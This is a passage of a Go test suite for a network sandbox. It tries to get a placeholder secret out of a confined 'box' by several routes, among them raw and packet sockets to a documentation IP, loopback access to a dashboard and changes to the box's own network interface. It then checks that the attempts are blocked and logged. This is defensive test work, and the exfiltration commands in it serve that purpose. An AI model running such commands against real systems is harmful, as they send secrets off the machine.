	{name: "a raw socket", script: `visit raw 203.0.113.10 SECRET`, op: `^ipc.socket socket `, deaf: os.Geteuid() != 0},
	{name: "a packet socket", script: `visit packet SECRET`, op: `^ipc.socket socket `, deaf: os.Geteuid() != 0},
}

// control runs all attempts without a box: each has to be heard.
func control(l *netLab) {
	l.forget()
	var wg sync.WaitGroup
	said := make([]string, len(exfiltrations))
	for i, x := range exfiltrations {
		wg.Go(func() {
			out, _ := l.command("sh", "-c", x.with(i)).CombinedOutput()
			said[i] = string(out)
		})
	}
	wg.Wait()
	hs := l.heard()
	for i, x := range exfiltrations {
		if !x.deaf && !slices.ContainsFunc(hs, func(h testworld.Heard) bool { return strings.Contains(h.What, secret(i)) }) {
			l.Errorf("natively nothing was heard of %q: %s", x.name, said[i])
		}
	}
}

// exfiltrate runs attempts in one box, a line of its input for each.
func exfiltrate(l *netLab, box string, attempts []int) {
	var script strings.Builder
	for _, i := range attempts {
		fmt.Fprintf(&script, "read go; { %s; } 2>&1; printf '\\0'\n", exfiltrations[i].with(i))
	}
	cmd := l.command(inBox(box, exfiltrations[attempts[0]].flags, "sh", "-c", script.String())...)
	in, err := cmd.StdinPipe()
	if err != nil {
		l.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		l.Fatal(err)
	}
	var errs bytes.Buffer
	cmd.Stderr = &errs
	if err := cmd.Start(); err != nil {
		l.Fatal(err)
	}
	type result struct {
		said       string
		heard      []testworld.Heard
		began, end time.Time
	}
	results, answers := map[int]result{}, bufio.NewReader(out)
	for _, i := range attempts {
		l.forget()
		r := result{began: time.Now()}
		io.WriteString(in, "\n")
		if r.said, err = answers.ReadString(0); err != nil {
			l.Errorf("%s: the box ended: %s%s", exfiltrations[i].name, r.said, errs.String())
			break
		}
		r.heard, r.end = l.heard(), time.Now()
		results[i] = r
	}
	in.Close()
	cmd.Wait()
	ops := l.ops(box, "surface:net.* or surface:ipc.loopback or verdict:blocked")
	for i, r := range results {
		x := &exfiltrations[i]
		l.Run(x.name, func(t *testing.T) {
			for _, h := range r.heard {
				if x.heard == "" || !regexp.MustCompile(x.heard).MatchString(h.String()) {
					t.Errorf("the Internet has heard %s (%s)", h, strings.TrimSpace(r.said))
				}
			}
			exe, want := x.exe, regexp.MustCompile(strings.ReplaceAll(x.op, "SECRET", secret(i)))
			if exe == "" {
				exe = "visit"
			}
			var during []core.Operation
			for _, op := range ops {
				if !op.Time.Before(r.began) && !op.Time.After(r.end) {
					during = append(during, op)
				}
			}
			if !slices.ContainsFunc(during, func(op core.Operation) bool {
				return op.Verdict == x.verdict && filepath.Base(op.Exe) == exe && want.MatchString(fmt.Sprint(op.Surface, " ", op.Action, " ", op.Target))
			}) {
				t.Errorf("not on record: %s %s by %s (%s) in\n%s", x.verdict, want, exe, strings.TrimSpace(r.said), say(during))
			}
		})
	}
}

func secret(i int) string { return fmt.Sprintf("secret-%d-of-it", i) }

func (x *exfiltration) with(i int) string { return strings.ReplaceAll(x.script, "SECRET", secret(i)) }

// TestExfiltration tries to get a secret out of a box in each of the ways: the Internet
// hears nothing of it, and the log says who tried what.
func TestExfiltration(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		all := newNetLab(t, w)
		needPrograms(t, os.Getenv("PATH"), "curl", "dig")
		t.Run("natively", func(t *testing.T) { control(all.in(t)) })
		// Those with the same policy share a box, but for what an attempt before would change.
		groups := map[string][]int{}
		var order []string
		for i, x := range exfiltrations {
			group := strings.Join(x.flags, " ")
			if x.alone {
				group = strconv.Itoa(i)
			}
			if groups[group] == nil {
				order = append(order, group)
			}
			groups[group] = append(groups[group], i)
		}
		for g, group := range order {
			exfiltrate(all, fmt.Sprint("x", g), groups[group])
		}
		t.Run("the dashboard", func(t *testing.T) {
			l := all.in(t)
			d, err := l.home.daemonInfo()
			if err != nil {
				t.Fatal(err)
			}
			_, port, err := net.SplitHostPort(d.Address)
			if err != nil {
				t.Fatal(err)
			}
			if said, _ := l.run(nil, "visit", "http", "127.0.0.1", port, "x", "y"); !strings.Contains(said, "HTTP/") {
				t.Fatalf("the control: %s", said)
			}
			flags := []string{"--rule", "allow 127.0.0.1:" + port, "--rule", "allow ::1", "--rule", "allow host"}
			said, _ := l.run(nil, inBox("dash", flags, "sh", "-c", fmt.Sprintf(`for a in 127.0.0.1 ::1 ::ffff:127.0.0.1 0.0.0.0 %s %s 192.0.2.1; do visit http $a %s x y; done; echo end`, testworld.Machine, testworld.Machine6, port))...)
			if strings.Contains(said, "HTTP/") || !strings.HasSuffix(said, "end\n") {
				t.Errorf("%s\n%s", said, say(l.ops("dash", "surface:net.* or surface:ipc.loopback or verdict:blocked")))
			}
		})
		t.Run("the box's own interface", func(t *testing.T) {
			l := all.in(t)
			out, code := l.run(nil, inBox("ifc", nil, "sh", "-c", `ip addr add 198.51.100.9/24 dev sand0; ip link set sand0 down; ip route del default; ip -br addr; visit http 203.0.113.10 80 x y`)...)
			if code != 0 || strings.Contains(out, "198.51.100.9/24") || !strings.Contains(out, "200 OK") {
				t.Errorf("exit code %d: %s", code, out)
			}
			if ops := l.ops("ifc", "verdict:blocked"); !slices.ContainsFunc(ops, func(op core.Operation) bool { return filepath.Base(op.Exe) == "ip" }) {
				t.Errorf("not on record:\n%s", say(ops))
			}
		})
	})
}

// TestManyFlows opens a thousand connections at once, and as many one after another.
func TestManyFlows(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		l := newNetLab(t, w)
		n := 1000
		if os.Getenv("SANDGLASS_LONG") != "" {
			n = 10_000
		}
		out, code := l.run(nil, inBox("many", []string{"--limit", fmt.Sprint("open-files=", n+1000)}, "visit", "many", strconv.Itoa(n), testworld.Web.String(), strconv.Itoa(testworld.PortHold))...)
		if code != 0 || !strings.Contains(out, "all held") {
			t.Errorf("at once, exit code %d: %s", code, out)
		}
		closed := 0
		for _, op := range l.ops("many", "surface:net.out action:close") {
			if op.Detail["flow"] != "" {
				closed++
			}
		}
		if closed != n {
			t.Errorf("%d of %d ends are on record", closed, n)
		}
		out, code = l.run(nil, inBox("rate", nil, "visit", "rate", strconv.Itoa(n), "16", testworld.Web.String(), strconv.Itoa(testworld.PortHold))...)
		if code != 0 {
			t.Errorf("one after another, exit code %d: %s", code, out)
		}
		t.Logf("%s flows in ns", strings.TrimSpace(out))
	})
}
